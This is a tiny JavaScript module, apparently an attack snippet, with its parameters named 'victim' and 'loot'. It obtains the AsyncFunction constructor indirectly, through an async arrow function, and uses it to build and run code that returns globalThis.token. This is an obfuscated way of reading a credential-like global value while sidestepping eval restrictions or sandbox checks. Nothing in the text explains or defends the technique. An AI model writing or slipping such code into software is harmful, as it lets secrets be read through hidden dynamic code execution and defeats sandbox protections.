module.exports = (victim, loot) => {
  const C = (async () => 0).constructor;
  return new C('return globalThis.token')();
};
